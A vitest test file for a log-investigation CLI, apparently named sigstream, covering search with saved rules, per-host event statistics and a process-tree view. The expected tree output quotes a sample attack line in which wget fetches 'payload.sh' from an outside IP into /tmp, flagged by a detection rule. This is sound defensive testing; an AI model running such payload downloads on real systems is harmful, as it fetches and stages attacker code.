/** The investigation verbs as a user runs them (issue 15 "Must show"): search --save-rule round trip, stats on the demo, tree on the wget sample. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { UsageError } from '../../engine/cli/args.js';
import { commands } from '../../engine/cli/commands.js';
import { sigstream as spawnSigstream } from '../helpers/cli.js';
import { runCli } from '../helpers/cli-io.js';

/** A verb in-process (the machine is shared: no process per call); a usage error is exit 2 as main.ts makes it. */
async function sigstream(args: string[], stdin = ''): Promise<{ status: number; stdout: string; stderr: string }> {
  const [name, ...rest] = args;
  try {
    const r = await runCli(commands[name], rest, stdin);
    return { status: r.code, stdout: r.stdout, stderr: r.stderr };
  } catch (err) {
    if (err instanceof UsageError) return { status: 2, stdout: '', stderr: err.message };
    throw err;
  }
}

const dir = mkdtempSync('/tmp/sigstream-investigate-');
const DEMO = 'samples/demo.ndjson';
const WGET = 'samples/linux-wget.ndjson';

/** The input lines of the events behind NDJSON hits, in order. */
function eventLines(stdout: string): number[] {
  return stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l).source.line as number);
}

describe('sigstream search', async () => {
  it.each([
    { name: 'criteria joined by --any, with a raw FIELD=VALUE', args: ['--any', '--process', 'powershell.exe', '--port', '445', 'User=CORP\\carol'] },
    { name: 'criteria joined by --all', args: ['--all', '--process', 'svchost.exe', '--ip', '10.*'] },
    { name: 'hash, registry and DNS criteria', args: ['--any', '--registry-key', '*\\CurrentVersion\\Run*', '--host', '*.example', '--file', '*.ps1'] },
  ])('--save-rule round trip ($name): the saved rule, run over the same input, finds the same events', async ({ args }) => {
    const rule = join(dir, `saved-${args.length}.yml`);
    const search = await sigstream(['search', ...args, '--save-rule', rule, DEMO]);
    expect(search.status).toBe(0);
    const found = eventLines(search.stdout);
    expect(found.length).toBeGreaterThan(0);
    expect(search.stderr).toContain(`events read 1119, skipped 0, matched ${found.length}`);
    const lint = await sigstream(['lint', rule]);
    expect(lint.status).toBe(0);
    expect(lint.stdout).toMatch(/2 rules loaded .*0 rejected/);
    const run = await sigstream(['run', '-r', rule, DEMO]);
    expect(run.status).toBe(0);
    expect([...new Set(eventLines(run.stdout))]).toEqual(found);
  });

  it('says what is wrong with a criterion, with exit 2', async () => {
    const r = await sigstream(['search', '--ip', '', DEMO]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/--ip : empty value \[search-criterion\]/);
    expect((await sigstream(['search', '--all', '--any', '--ip', '1.2.3.4', DEMO])).status).toBe(2);
    expect((await sigstream(['search', '--output', 'nope', '--ip', '1.2.3.4', DEMO])).stderr).toMatch(/--output: no writer 'nope'/);
  });

  it('takes the event filters of run and writes through the run writers (csv)', async () => {
    const r = await sigstream(['search', '--process', 'svchost.exe', '--computer', 'WS042*', '--eventid', '3', '--output', 'csv', DEMO]);
    expect(r.status).toBe(0);
    const rows = r.stdout.trim().split('\n');
    expect(rows[0]).toMatch(/^Timestamp,Computer,/);
    expect(rows.slice(1).every((row) => row.includes('WS042.corp.example'))).toBe(true);
    expect(r.stderr).toMatch(new RegExp(`events read 1119, skipped 0, events left out: eventid \\d+, computer \\d+, matched ${rows.length - 1}`));
    expect(rows.length - 1).toBeGreaterThan(0);
  });

  it('skips and counts a bad record, and goes on', async () => {
    const input = ['{"EventID":3,"DestinationPort":"445"}', '{"EventID":', '{"EventID":3,"DestinationPort":"445"}'].join('\n');
    // The built CLI reading real stdin (as a pipe gives it).
    const r = spawnSigstream(['search', '--port', '445'], input);
    expect(r.status).toBe(0);
    expect(r.stdout.trim().split('\n')).toHaveLength(2);
    expect(r.stderr).toMatch(/-:2:\d+: error: .*\[bad-json\]/);
    expect(r.stderr).toContain('events read 2, skipped 1, matched 2');
    expect(spawnSigstream(['search', '--strict', '--port', '445'], input).status).toBe(1);
  });
});

describe('sigstream stats', async () => {
  it('counts the demo per host by category and EventID, with top and rarest values (checked by hand)', async () => {
    const r = await sigstream(['stats', '--by', 'host', '--top', '3', '--json', DEMO]);
    expect(r.status).toBe(0);
    const stats = JSON.parse(r.stdout);
    expect(stats.events).toBe(1119);
    expect(stats.groups.map((g: { key: { host: string }; events: number }) => [g.key.host, g.events])).toEqual([
      ['app02.corp.example', 2], ['build02.corp.example', 81], ['db01.corp.example', 110], ['DC01.corp.example', 2],
      ['FS01.corp.example', 156], ['SRV-APP01.corp.example', 157], ['SRV-WEB01.corp.example', 2], ['web01.corp.example', 117],
      ['WS017.corp.example', 156], ['WS042.corp.example', 177], ['WS108.corp.example', 159],
    ]);
    const ws042 = stats.groups.find((g: { key: { host: string } }) => g.key.host === 'WS042.corp.example');
    // EventIDs 1:75 2:1 3:30 7:9 10:2 11:19 13:23 22:18, counted with a one-off script over the file.
    expect(ws042.eventIds).toEqual({ 1: 75, 2: 1, 3: 30, 7: 9, 10: 2, 11: 19, 13: 23, 22: 18 });
    expect(ws042.categories).toEqual({ process: 75, network: 30, registry: 23, file: 20, dns: 18, 'image-load': 9, 'process-access': 2 });
    expect(ws042.top.Image).toEqual([
      ['C:\\Windows\\System32\\svchost.exe', 34],
      ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 30],
      ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 12],
    ]);
    expect(ws042.top.DestinationPort).toEqual([['443', 11], ['445', 6], ['80', 4]]);
    expect(ws042.rarest.Image[0][1]).toBe(1);
  });

  it('groups by host and day by default, as a text table', async () => {
    const r = await sigstream(['stats', DEMO]);
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^1119 events, 2026-11-20T08:00:00\.\d+Z \.\. 2026-11-20T08:59:53\.877Z; 11 groups by host, day/);
    expect(r.stdout).toContain('host WS042.corp.example | day 2026-11-20: 177 events');
    expect(r.stdout).toContain('  by EventID:  1 75, 2 1, 3 30, 7 9, 10 2, 11 19, 13 23, 22 18');
  });

  it('counts only the events the filters keep', async () => {
    const stats = JSON.parse((await sigstream(['stats', '--by', 'eventid', '--eventid', '22', '--json', DEMO])).stdout);
    expect(stats.events).toBe(94);
    expect(stats.groups.map((g: { key: { eventid: string } }) => g.key.eventid)).toEqual(['22']);
  });

  it('rejects an unknown --by key', async () => {
    const r = await sigstream(['stats', '--by', 'colour', DEMO]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/unknown key 'colour'/);
  });
});

describe('sigstream tree', async () => {
  const WGET_GUID = '{5a6c5f3c-0020-6630-c8e5-0a0000000000}';
  it('prints the wget sample\'s process with its parent and activity', async () => {
    const r = await sigstream(['tree', '--guid', WGET_GUID, WGET]);
    expect(r.status).toBe(0);
    expect(r.stdout).toBe(
      [
        `process tree around ${WGET_GUID} on web01`,
        '/usr/bin/bash [pid 1022] {5a6c5f3c-0001-6630-c8e5-0a0000000000} (no creation event): -bash',
        `└─ ▶ /usr/bin/wget [pid 2210] ${WGET_GUID}: wget -q http://203.0.113.50/payload.sh -O /tmp/payload.sh`,
        '     · network         3  tcp 203.0.113.50:80',
        '     · file           11  /tmp/payload.sh',
        '     · process         5  terminated',
        '',
        '',
      ].join('\n'),
    );
  });

  it('centred on the parent, shows every child; --hits marks the processes with hits', async () => {
    const hits = join(dir, 'wget-hits.ndjson');
    const run = await sigstream(['run', '-r', 'rules', WGET]);
    writeFileSync(hits, run.stdout);
    const r = await sigstream(['tree', '--guid', '{5a6c5f3c-0001-6630-c8e5-0a0000000000}', '--hits', hits, WGET]);
    expect(r.status).toBe(0);
    const processLines = r.stdout.split('\n').filter((l) => l.includes('[pid'));
    expect(processLines).toHaveLength(1 + 9); // bash and its nine children (the sample's two hosts share the parent GUID)
    const marked = processLines.filter((l) => l.includes('← hits: Wget Download Followed By Network Connection'));
    expect(marked.map((l) => /\{[^}]+\}/.exec(l)![0])).toEqual(['{5a6c5f3c-0020-6630-c8e5-0a0000000000}', '{5a6c5f3c-0033-6630-c8e5-0a0000000000}']);
  });

  it('says so when no event names the process', async () => {
    const r = await sigstream(['tree', '--guid', '{nope}', WGET]);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('no event of the inputs names process {nope}');
  });
});

